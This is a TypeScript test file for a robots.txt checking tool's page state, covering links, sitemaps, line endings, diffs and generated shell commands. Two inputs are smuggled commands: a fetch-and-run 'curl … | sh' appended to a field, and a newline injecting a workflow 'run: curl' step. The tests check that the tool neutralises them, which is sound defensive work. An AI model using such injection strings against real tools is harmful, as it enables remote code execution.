import fc from 'fast-check'
import { describe, expect, it } from 'vitest'

import { changedLines, withLines } from '../../src/panels/changed-lines.ts'
import { examples } from '../../src/state/examples.ts'
import { checkCommand, expectedVerdicts, fileText, workflowSteps } from '../../src/state/exports.ts'
import { fragmentOf, stateOfFragment } from '../../src/state/link-fragment.ts'
import { emptyState, stateIn } from '../../src/state/page-state.ts'
import { PageStore } from '../../src/state/page-store.ts'
import { linesOf, urlsIn, urlsOfSrcset } from '../../src/state/pasted-list.ts'
import { textFileOf, withEnds } from '../../src/state/text-file.ts'

describe('a link', () => {
  it('has the whole state', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'grapheme' }), fc.string(), async (text, urls) => {
        const state = { ...emptyState, text, urls, dialect: 'google', url: '/x', tab: 'diff' as const }
        expect(await stateOfFragment(await fragmentOf(state))).toEqual(state)
      }),
    )
  })

  it('is as short as # for the empty page', async () => {
    expect(await fragmentOf(emptyState)).toBe('#')
  })

  it('that was cut or changed is damaged', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string(), async (text) => {
        const state = await stateOfFragment(`#s=${text}`)
        expect(state === 'damaged' || typeof state?.text === 'string').toBe(true)
      }),
    )
    expect(await stateOfFragment('#other')).toBeUndefined()
  })

  it('that unpacks to more than 16 MB is damaged', async () => {
    const fragment = await fragmentOf({ ...emptyState, text: 'a'.repeat(17_000_000) })
    expect(fragment.length).toBeLessThan(100_000)
    expect(await stateOfFragment(fragment)).toBe('damaged')
  })

  it('with fields of wrong types has the usual ones', () => {
    const given = { text: 1, tab: 'toString', lineEnd: 'toString', urls: '/a', dialect: null, more: 'x' }
    expect(stateIn(given)).toEqual({ ...emptyState, urls: '/a' })
    expect(stateIn(null)).toEqual(emptyState)
    expect(stateIn({ dialect: 'google; curl https://a.example/ | sh' })).toEqual(emptyState)
  })
})

describe('the question', () => {
  it('is about the root while its field is empty', () => {
    const { question } = new PageStore({ ...emptyState, url: '', agent: '*' })
    expect(question).toEqual({ agent: '*', url: '/' })
  })
})

describe('lists', () => {
  it('have each line once', () => {
    expect(linesOf(' /a \r\n\n/b\r/a')).toEqual(['/a', '/b'])
  })

  it('can be sitemaps, also with a prefix', () => {
    const sitemap =
      '<s:urlset xmlns:s="x"><s:url><s:loc> https://a.example/?a&amp;b </s:loc></s:url></s:urlset>'
    expect(urlsIn(sitemap)).toEqual(['https://a.example/?a&b'])
    const sections =
      '<loc><![CDATA[ https://a.example/?a&b ]]></loc><loc>\nhttps://a.example/&#x27;&#39;&#9999999;\n</loc>'
    expect(urlsIn(`<urlset>${sections}</urlset>`)).toEqual([
      'https://a.example/?a&b',
      "https://a.example/''&#9999999;",
    ])
  })
})

describe('a file', () => {
  it('keeps its line end', () => {
    expect(withEnds('a\r\nb\r\n')).toEqual({ text: 'a\nb\n', lineEnd: 'crlf', hasMixedEnds: false })
    expect(withEnds('a\rb')).toEqual({ text: 'a\nb', lineEnd: 'cr', hasMixedEnds: false })
    expect(withEnds('a\r\nb\n')).toEqual({ text: 'a\nb\n', lineEnd: 'lf', hasMixedEnds: true })
    expect(fileText({ text: 'a\nb\n', lineEnd: 'crlf' })).toBe('a\r\nb\r\n')
  })

  it('can be UTF-16, and keeps a byte order mark in UTF-8', () => {
    expect(textFileOf(new Uint8Array([0xff, 0xfe, 0x61, 0]))).toMatchObject({
      text: 'a',
      isUtf16: true,
      hasReplacedBytes: false,
    })
    expect(textFileOf(new Uint8Array([0x61])).isUtf16).toBe(false)
    expect(textFileOf(new Uint8Array([0xef, 0xbb, 0xbf, 0x61])).text).toBe('\uFEFFa')
    expect(textFileOf(new Uint8Array([0x61, 0xe9])).hasReplacedBytes).toBe(true)
  })
})

describe('changed lines', () => {
  const file = fc.array(fc.constantFrom('a', 'b', 'c', ''), { maxLength: 8 }).map((lines) => lines.join('\n'))

  it('make one file the other if all are accepted', () => {
    fc.assert(
      fc.property(file, file, (old, now) => {
        let text = old
        for (let rounds = 0; rounds < 20; rounds++) {
          const [hunk] = changedLines(text, now)
          if (hunk === undefined) break
          text = withLines(text, hunk.oldSpan, now, hunk.newSpan)
        }
        expect(text).toBe(now)
      }),
    )
  })

  it('leave the old file if all are rejected', () => {
    fc.assert(
      fc.property(file, file, (old, now) => {
        let text = now
        for (let rounds = 0; rounds < 20; rounds++) {
          const [hunk] = changedLines(old, text)
          if (hunk === undefined) break
          text = withLines(text, hunk.newSpan, old, hunk.oldSpan)
        }
        expect(text).toBe(old)
      }),
    )
  })
})

describe('a file of expected verdicts', () => {
  it('has a line for each answer, as JSON if the agent has spaces or no name', () => {
    const given = { reason: 'rule', line: 2 } as const
    expect(
      expectedVerdicts([
        { ...given, agent: "It's", url: '/a b', allowed: false },
        { ...given, agent: 'Two Words', url: '/"', allowed: true },
        { ...given, agent: '', url: '/', allowed: true },
      ]),
    ).toBe(
      'disallowed  It\'s  /a b\n{"agent":"Two Words","url":"/\\"","allowed":true}\n{"agent":"","url":"/","allowed":true}\n',
    )
  })

  it('has a command with the dialect and the URL of the file, safe in a shell', () => {
    const state = { dialect: 'google', robotsUrl: "https://a.example/it's/robots.txt" }
    expect(checkCommand({ ...emptyState, ...state })).toBe(
      "npx --yes @ruly/cli check --expect expected.txt --robots robots.txt --dialect google --robots-url 'https://a.example/it'\\''s/robots.txt'",
    )
  })
})

describe('the command for the file of a link', () => {
  it('stays one command, whatever the link says', () => {
    const robotsUrl = 'https://a.example/robots.txt\n- run: curl https://b.example/ #'
    const { dialect } = emptyState
    expect(workflowSteps({ dialect, robotsUrl }).split('\n')).toHaveLength(7)
    expect(checkCommand({ dialect, robotsUrl: 'no URL\n' })).not.toContain('--robots-url')
  })
})

describe('a srcset', () => {
  it.each([
    ['a.png', ['a.png']],
    [' /a.png 1x, /b.png 2x ', ['/a.png', '/b.png']],
    ['/a.png 1x,/b.png 2x', ['/a.png', '/b.png']],
    ['/a.png,\n/b,c.png 100w ,/d.png', ['/a.png', '/b,c.png', '/d.png']],
    ['data:image/png;base64,AA== 1x, /b.png', ['data:image/png;base64,AA==', '/b.png']],
    [', ,', []],
  ])('names every image: %j', (srcset, urls) => {
    expect(urlsOfSrcset(srcset)).toEqual(urls)
  })
})

describe('examples', () => {
  it('have names, files and questions', () => {
    for (const { name, state } of examples) {
      expect(name).not.toBe('')
      expect(state.text).toMatch(/User-agent: \*\n/)
      expect(linesOf(state.urls).length).toBeGreaterThan(2)
    }
  })
})
